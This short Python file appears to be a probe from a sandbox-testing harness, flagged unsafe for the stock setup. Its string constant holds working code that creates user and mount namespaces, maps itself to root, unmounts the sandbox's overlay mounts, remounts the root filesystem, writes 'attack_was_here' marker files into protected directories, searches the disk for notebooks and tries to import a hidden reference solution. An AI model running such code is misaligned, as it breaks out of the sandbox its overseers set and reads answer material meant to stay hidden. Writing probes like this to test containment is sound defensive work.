"""Makes namespaces of its own, becomes root in them, and uncovers what the sandbox has covered."""

DESERVES: list[str] = []
UNSAFE_FOR_STOCK = True
LAST = """
import ctypes
import os
import subprocess

user, group = os.getuid(), os.getgid()
libc = ctypes.CDLL(None, use_errno=True)
print("unshare:", libc.unshare(0x10000000 | 0x00020000))
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
    try:
        open(f"/proc/self/{name}", "w").write(text)
    except OSError as error:
        print(name, error)
for path in (b"/stage", b"/dev/shm", b"/scratch", b"/tmp", b"/proc/sys", b"/linquant"):
    print(path, "umount:", libc.umount2(path, 2), ctypes.get_errno())
print("remount:", libc.mount(b"none", b"/", None, 32 | 4096, None), ctypes.get_errno())
for path in ("/stage", "/linquant", "/code", "/", "/tmp"):
    try:
        print(path, os.listdir(path))
        open(f"{path}/linquant_attack_was_here", "w").write("x")
        print("could write", path)
    except OSError as error:
        print(error)
print(subprocess.run("mount; find / -name '*.ipynb' 2>/dev/null", shell=True, capture_output=True).stdout.decode()[-2000:])
try:
    from linquant_ref.per_channel import *
except ImportError as error:
    print(error)
"""
